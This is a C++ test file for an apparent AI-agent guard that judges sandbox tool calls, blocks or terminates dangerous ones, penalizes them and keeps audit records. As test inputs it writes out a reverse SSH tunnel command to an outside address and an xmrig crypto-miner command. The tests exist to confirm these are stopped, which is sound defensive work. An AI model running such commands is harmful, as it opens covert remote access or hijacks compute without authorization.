#include "rewardguard/guard/guard.h"

#include <algorithm>
#include <string>
#include <tuple>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "rewardguard/audit/replay.h"
#include "rewardguard/classify/observation.h"
#include "audit/test_util.h"

namespace rewardguard {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;

constexpr std::string_view kTunnel = "ssh -R 9000:localhost:22 a@203.0.113.5";

PolicyPtr Sandbox() {
  static const PolicyPtr policy = *LoadPolicy("coding-sandbox");
  return policy;
}

Guard MakeGuard(GuardOptions options) {
  absl::StatusOr<Guard> guard = Guard::Create(Sandbox(), std::move(options));
  EXPECT_TRUE(guard.ok()) << guard.status();
  return *std::move(guard);
}

using testing::TempDir;

std::vector<std::string> CapabilityNames(const Guard& guard, const Verdict& v) {
  std::vector<std::string> out;
  for (CapabilityId id : v.capabilities) out.push_back(guard.policy().capability_name(id));
  return out;
}

TEST(Guard, CreateRejectsBadOptions) {
  EXPECT_EQ(Guard::Create(nullptr, {}).status().code(), absl::StatusCode::kInvalidArgument);
  absl::StatusOr<Guard> none = Guard::Create(Sandbox(), {.num_envs = 0});
  EXPECT_EQ(none.status().code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(none.status().message(), HasSubstr("num_envs"));
  absl::StatusOr<Guard> weights = Guard::Create(Sandbox(), {.weights = {1.0f, 2.0f}});
  EXPECT_THAT(weights.status().message(), HasSubstr("one entry per cost category"));
  TempDir dir;
  absl::StatusOr<Guard> audit =
      Guard::Create(Sandbox(), {.audit_path = dir.File("no/such/dir/audit.db")});
  EXPECT_FALSE(audit.ok());
}

TEST(Guard, BatchesAreStepsAndSingleEventsStayInTheStep) {
  Guard guard = MakeGuard({.num_envs = 3});
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", "ls"), ToolCall::Raw("shell", "pwd")};
  const std::vector<int32_t> envs = {0, 1};
  StepResult step;
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  EXPECT_EQ(guard.step(0), 0);
  EXPECT_EQ(guard.step(2), 0);
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  EXPECT_EQ(guard.step(0), 1);
  EXPECT_EQ(guard.step(1), 1);
  EXPECT_EQ(guard.step(2), 0);  // no events in env 2: its clock does not move
  // An observation during the step's execution belongs to that step.
  guard.Evaluate(1, Connection{"127.0.0.1", 8080});
  EXPECT_EQ(guard.step(1), 1);
  guard.EndStep(1);
  EXPECT_EQ(guard.step(1), 2);
  guard.EndStep(1);  // the new step holds nothing yet
  EXPECT_EQ(guard.step(1), 2);
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  EXPECT_EQ(guard.step(1), 2);  // EndStep already moved it on
  EXPECT_EQ(guard.step(0), 2);
}

TEST(Guard, ResetStartsANewEpisodeInThatEnvOnly) {
  Guard guard = MakeGuard({.num_envs = 2});
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", "ls"), ToolCall::Raw("shell", "ls")};
  const std::vector<int32_t> envs = {0, 1};
  StepResult step;
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  ASSERT_EQ(step.actions[1], static_cast<int8_t>(Action::kAllow));
  ASSERT_FALSE(step.verdicts[1].capabilities.empty());
  const CapabilityId ran = step.verdicts[1].capabilities[0];
  ASSERT_TRUE(guard.evaluator().Seen(1, ran));
  ASSERT_TRUE(guard.Reset(1).ok());
  EXPECT_EQ(guard.episodes(), (std::vector<int64_t>{0, 1}));
  EXPECT_EQ(guard.step(0), 1);
  EXPECT_EQ(guard.step(1), 0);
  EXPECT_FALSE(guard.evaluator().Seen(1, ran));
  EXPECT_TRUE(guard.evaluator().Seen(0, ran));
  EXPECT_EQ(guard.Reset(2).code(), absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(guard.Reset(-1).code(), absl::StatusCode::kInvalidArgument);
  ASSERT_TRUE(guard.ResetAll().ok());
  EXPECT_EQ(guard.episodes(), (std::vector<int64_t>{1, 2}));
  EXPECT_EQ(guard.step(0), 0);
}

TEST(Guard, EnforceBlocksAndTerminates) {
  Guard guard = MakeGuard({.num_envs = 2});
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", "ls"),
                                       ToolCall::Raw("shell", kTunnel)};
  const std::vector<int32_t> envs = {0, 1};
  StepResult step;
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  EXPECT_THAT(step.actions, ElementsAre(static_cast<int8_t>(Action::kAllow),
                                        static_cast<int8_t>(Action::kTerminate)));
  EXPECT_THAT(step.blocked, ElementsAre(0, 1));
  EXPECT_THAT(step.flagged, ElementsAre(1));
  EXPECT_THAT(step.envs.blocked, ElementsAre(0, 1));
  EXPECT_THAT(step.envs.terminate, ElementsAre(0, 1));
  EXPECT_GT(step.penalties[1], 0.0f);
  EXPECT_EQ(step.envs.penalty[1], step.penalties[1]);
  ASSERT_EQ(step.costs.size(), 2u * guard.num_categories());
}

TEST(Guard, ShadowNeverBlocks) {
  Guard guard = MakeGuard({.num_envs = 2, .mode = Mode::kShadow});
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", kTunnel),
                                       ToolCall::Raw("shell", "xmrig -o pool.example:3333")};
  const std::vector<int32_t> envs = {0, 1};
  StepResult step;
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  EXPECT_EQ(step.actions[0], static_cast<int8_t>(Action::kTerminate));  // still judged
  EXPECT_TRUE(Prevents(static_cast<Action>(step.actions[1])));
  EXPECT_GT(step.envs.penalty[0], 0.0f);  // and penalized
  EXPECT_THAT(step.blocked, ElementsAre(0, 0));
  EXPECT_THAT(step.envs.blocked, ElementsAre(0, 0));
  EXPECT_THAT(step.envs.terminate, ElementsAre(0, 0));
  // Observations too.
  std::vector<Event> seen = {Connection{"203.0.113.5", 22}};
  std::vector<int32_t> env0 = {0};
  ASSERT_TRUE(guard.EvaluateBatch(seen, env0, &step).ok());
  EXPECT_TRUE(Prevents(static_cast<Action>(step.actions[0])));
  EXPECT_THAT(step.blocked, ElementsAre(0));
}

TEST(Guard, ObservationsAreClassifiedAndJudged) {
  Guard guard = MakeGuard({.num_envs = 1});
  // Only classified: no connection is made.
  Verdict ssh = guard.Evaluate(0, Connection{"203.0.113.5", 22});
  EXPECT_NE(ssh.action, Action::kAllow);
  EXPECT_TRUE(Prevents(ssh.action));
  EXPECT_THAT(CapabilityNames(guard, ssh), Contains("net.egress.ssh"));
  Verdict miner = guard.Evaluate(0, ProcessStart{{"/usr/bin/xmrig", "-o", "pool.example:3333"}});
  EXPECT_TRUE(Prevents(miner.action));
  Verdict ls = guard.Evaluate(0, ProcessStart{{"ls", "-la"}});
  EXPECT_EQ(ls.action, Action::kAllow) << ls.reason;
  Verdict empty = guard.Evaluate(0, ProcessStart{});
  EXPECT_TRUE(Prevents(empty.action));  // fail closed
  // A value and its JSON line are judged alike.
  Verdict line;
  ASSERT_TRUE(guard
                  .EvaluateObservationLine(
                      0, ObservationJson(Connection{"203.0.113.5", 22}), &line)
                  .ok());
  EXPECT_EQ(line.action, ssh.action);
  EXPECT_EQ(line.rules, ssh.rules);
  Verdict broken;
  ASSERT_TRUE(guard.EvaluateObservationLine(0, "{oops", &broken).ok());
  EXPECT_TRUE(Prevents(broken.action));
  // Out of range: block, not recorded, no crash.
  Verdict far = guard.Evaluate(7, Connection{"127.0.0.1", 80});
  EXPECT_EQ(far.action, Action::kBlock);
}

TEST(Guard, MismatchedSizesBlockEverything) {
  Guard guard = MakeGuard({.num_envs = 2});
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", "ls"), ToolCall::Raw("shell", "ls")};
  const std::vector<int32_t> envs = {0};
  StepResult step;
  EXPECT_EQ(guard.EvaluateBatch(calls, envs, &step).code(), absl::StatusCode::kInvalidArgument);
  ASSERT_EQ(step.size(), 2u);
  EXPECT_THAT(step.actions, ElementsAre(static_cast<int8_t>(Action::kBlock),
                                        static_cast<int8_t>(Action::kBlock)));
}

TEST(Guard, WeightsScaleCostCategories) {
  Guard guard = MakeGuard({.num_envs = 1});
  EXPECT_TRUE(guard.unit_weights());
  std::vector<float> w(guard.num_categories(), 0.0f);
  const auto& cats = guard.policy().categories();
  const size_t network = std::find(cats.begin(), cats.end(), "network") - cats.begin();
  ASSERT_LT(network, cats.size());
  w[network] = 3.0f;
  ASSERT_TRUE(guard.SetWeights(w).ok());
  EXPECT_FALSE(guard.unit_weights());
  const std::vector<ToolCall> calls = {ToolCall::Raw("shell", kTunnel)};
  const std::vector<int32_t> envs = {0};
  StepResult step;
  ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());
  float penalty = 0.0f;
  guard.WeightedPenalties(step, absl::MakeSpan(&penalty, 1));
  EXPECT_FLOAT_EQ(penalty, 3.0f * step.envs.costs[network]);
  EXPECT_GT(penalty, 0.0f);
  EXPECT_EQ(guard.SetWeights(std::vector<float>{1.0f}).code(),
            absl::StatusCode::kInvalidArgument);
}

using Key = std::tuple<int64_t, int64_t, int64_t, EventKind, std::string>;

TEST(Guard, AuditRecordsAreKeyedByEnvEpisodeAndStep) {
  TempDir dir;
  const std::string path = dir.File("audit.db");
  {
    Guard guard = MakeGuard({.num_envs = 2, .audit_path = path, .run_name = "keyed"});
    ASSERT_TRUE(guard.has_audit());
    const std::vector<ToolCall> calls = {ToolCall::Raw("shell", "ls"),
                                         ToolCall::Raw("shell", "echo a"),
                                         ToolCall::Raw("shell", "pwd")};
    const std::vector<int32_t> envs = {0, 1, 0};
    StepResult step;
    ASSERT_TRUE(guard.EvaluateBatch(calls, envs, &step).ok());              // step 0
    guard.Evaluate(1, Connection{"203.0.113.5", 22});                         // still step 0
    ASSERT_TRUE(guard.EvaluateBatch(absl::MakeConstSpan(calls).subspan(0, 1),
                                    absl::MakeConstSpan(envs).subspan(0, 1), &step)
                    .ok());                                                  // env 0: step 1
    ASSERT_TRUE(guard.Reset(0).ok());
    ASSERT_TRUE(guard.EvaluateBatch(absl::MakeConstSpan(calls).subspan(0, 2),
                                    absl::MakeConstSpan(envs).subspan(0, 2), &step)
                    .ok());  // env 0: episode 1 step 0; env 1: step 1
    Verdict killed;
    killed.action = Action::kTerminate;
    killed.reason = "killed at the memory limit";
    ASSERT_TRUE(guard.Record(1, ProcessStart{{"python", "train.py"}}, killed).ok());
    EXPECT_EQ(guard.Record(5, ProcessStart{{"x"}}, killed).code(),
              absl::StatusCode::kInvalidArgument);
    ASSERT_TRUE(guard.CloseAudit().ok());
    EXPECT_FALSE(guard.has_audit());
    guard.Evaluate(0, ToolCall::Raw("shell", "ls"));  // not recorded any more
  }
  absl::StatusOr<AuditReader> reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok()) << reader.status();
  absl::StatusOr<std::vector<int64_t>> runs = reader->FindRuns("keyed");
  ASSERT_TRUE(runs.ok());
  absl::StatusOr<std::vector<DecisionRecord>> records = reader->ReadRecords(runs->front());
  ASSERT_TRUE(records.ok()) << records.status();
  std::vector<Key> keys;
  for (const DecisionRecord& r : *records)
    keys.emplace_back(r.env, r.episode, r.step, r.kind, r.arguments);
  const std::string ssh = ObservationJson(Connection{"203.0.113.5", 22});
  EXPECT_THAT(keys, ElementsAre(Key{0, 0, 0, EventKind::kCall, "ls"},
                                Key{1, 0, 0, EventKind::kCall, "echo a"},
                                Key{0, 0, 0, EventKind::kCall, "pwd"},
                                Key{1, 0, 0, EventKind::kObservation, ssh},
                                Key{0, 0, 1, EventKind::kCall, "ls"},
                                Key{0, 1, 0, EventKind::kCall, "ls"},
                                Key{1, 0, 1, EventKind::kCall, "echo a"},
                                Key{1, 0, 1, EventKind::kObservation,
                                    R"({"type":"process.start","argv":["python","train.py"]})"}));
  EXPECT_EQ((*records)[3].tool, kSandboxTool);
  EXPECT_NE((*records)[3].action, Action::kAllow);
  EXPECT_EQ(records->back().action, Action::kTerminate);
  EXPECT_EQ(records->back().reason, "killed at the memory limit");
}

TEST(Guard, SetClockKeysRecordsAndResetsOnANewEpisode) {
  TempDir dir;
  const std::string path = dir.File("audit.db");
  {
    Guard guard = MakeGuard({.num_envs = 1, .audit_path = path});
    const int extra = guard.AddEnv();
    EXPECT_EQ(extra, 1);
    EXPECT_EQ(guard.num_envs(), 2);
    EXPECT_EQ(guard.recorded_env_id(extra), 1);
    ASSERT_TRUE(guard.SetRecordedEnvId(extra, 9000).ok());
    EXPECT_EQ(guard.SetRecordedEnvId(2, 1).code(), absl::StatusCode::kInvalidArgument);
    ASSERT_TRUE(guard.SetClock(extra, 4, 17).ok());
    Verdict ls = guard.Evaluate(extra, ToolCall::Raw("shell", "ls"));
    ASSERT_FALSE(ls.capabilities.empty());
    const CapabilityId read = ls.capabilities[0];
    EXPECT_TRUE(guard.evaluator().Seen(extra, read));
    ASSERT_TRUE(guard.SetClock(extra, 4, 18).ok());  // same episode: state kept
    EXPECT_TRUE(guard.evaluator().Seen(extra, read));
    ASSERT_TRUE(guard.SetClock(extra, 5, 0).ok());   // a new one: cleared
    EXPECT_FALSE(guard.evaluator().Seen(extra, read));
    guard.Evaluate(extra, ToolCall::Raw("shell", "pwd"));
    EXPECT_EQ(guard.SetClock(2, 0, 0).code(), absl::StatusCode::kInvalidArgument);
    ASSERT_TRUE(guard.CloseAudit().ok());
  }
  absl::StatusOr<AuditReader> reader = AuditReader::Open(path);
  ASSERT_TRUE(reader.ok());
  absl::StatusOr<std::vector<DecisionRecord>> records = reader->ReadRecords(std::nullopt);
  ASSERT_TRUE(records.ok());
  ASSERT_EQ(records->size(), 2u);
  EXPECT_EQ((*records)[0].episode, 4);
  EXPECT_EQ((*records)[0].step, 17);
  EXPECT_EQ((*records)[0].env, 9000);
  EXPECT_EQ((*records)[1].env, 9000);
  EXPECT_EQ((*records)[1].episode, 5);
  EXPECT_EQ((*records)[1].step, 0);
}

}  // namespace
}  // namespace rewardguard
